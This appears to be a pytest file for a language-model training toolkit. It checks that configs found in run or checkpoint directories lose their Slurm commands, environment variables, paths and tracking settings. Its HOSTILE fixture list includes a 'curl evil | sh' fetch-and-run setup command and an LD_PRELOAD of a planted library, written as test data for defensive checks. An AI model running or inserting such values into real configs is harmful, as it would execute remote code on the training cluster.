"""A configuration that comes with a run or a checkpoint says what was trained, never where and with what commands."""

from pathlib import Path

import pytest

from gpt1_ds.common.errors import CheckpointError, ConfigError
from gpt1_ds.config import load, load_carried, load_recorded, to_carried_yaml, to_yaml

HOSTILE = [
    *("slurm.setup=['curl evil | sh']", "slurm.environment={LD_PRELOAD: /tmp/evil.so}", "slurm.container=evil"),
    *("slurm.options=['--reservation=evil']", "run.dir=/tmp/theirs", "run.share=group", "tracking.wandb=online"),
    "train.evaluations=[{lm_eval: evil.yaml}]",
    *("tracking.project=theirs", "parallel.deepspeed={dump_state: true}", "checkpoint.init_from=/tmp/theirs"),
]
HONEST = ["run.name=theirs", "model.layers=3", "train.steps=7", "optimizer.lr=0.5", "data.path=d", "checkpoint.every=9"]


@pytest.fixture(params=["checkpoint", "run"])
def theirs(request: pytest.FixtureRequest, tmp_path: Path) -> Path:
    if request.param == "checkpoint":
        (tmp_path / "manifest.json").touch()
    else:
        (tmp_path / "checkpoints").mkdir()
    path = tmp_path / "config.yaml"
    path.write_text(to_yaml(load([], [*HOSTILE, *HONEST])))
    return path


def test_a_strangers_file_brings_no_commands_and_no_places(theirs: Path, capsys: pytest.CaptureFixture[str]) -> None:
    config, mine = load([str(theirs)]), load([], HONEST)
    assert config == mine
    (said,) = capsys.readouterr().err.splitlines()
    for key in ("slurm.setup", "slurm.environment", "run.dir", "tracking.project", "parallel.deepspeed"):
        assert key in said
    assert "train.evaluations" in said
    assert "slurm.nodes" not in said, "what has its default is not told"


def test_what_its_user_gives_counts(theirs: Path, tmp_path: Path) -> None:
    own = tmp_path / "own.yaml"
    own.write_text("slurm: {setup: [module load cuda]}")
    config = load([str(theirs), str(own)], ["run.dir=here"])
    assert (config.slurm.setup, config.run.dir, config.model.layers) == (["module load cuda"], "here", 3)


def test_a_link_is_followed(theirs: Path, tmp_path: Path) -> None:
    (tmp_path / "link").mkdir()
    (tmp_path / "link" / "x.yaml").symlink_to(theirs)
    assert load([str(tmp_path / "link" / "x.yaml")], ["run.name=theirs"]) == load([], HONEST)


def test_a_file_elsewhere_is_the_users_own(theirs: Path, tmp_path: Path) -> None:
    (tmp_path / "own").mkdir()
    own = theirs.rename(tmp_path / "own" / "config.yaml")
    assert load([str(own)]).slurm.container == "evil"


def test_there_are_no_interpolations_in_it(theirs: Path) -> None:
    theirs.write_text("run: {name: 'x${model.layers}'}")
    for read in (lambda: load([str(theirs)]), lambda: load_recorded(theirs)):
        with pytest.raises(ConfigError, match=r"no .* is read from a run or a checkpoint"):
            read()
    with pytest.raises(CheckpointError, match=r"no .* is read from a run or a checkpoint"):
        load_carried(theirs)


def test_what_a_run_recorded_is_compared_in_full(theirs: Path) -> None:
    assert load_recorded(theirs) == load([], [*HOSTILE, *HONEST])


def test_a_checkpoint_is_given_no_more_than_is_read(theirs: Path) -> None:
    text = to_carried_yaml(load([], [*HOSTILE, *HONEST]))
    assert not any(word in text for word in ("evil", "slurm", "tracking", "/tmp", "deepspeed"))
    theirs.write_text(text)
    assert load_carried(theirs) == load([], HONEST)
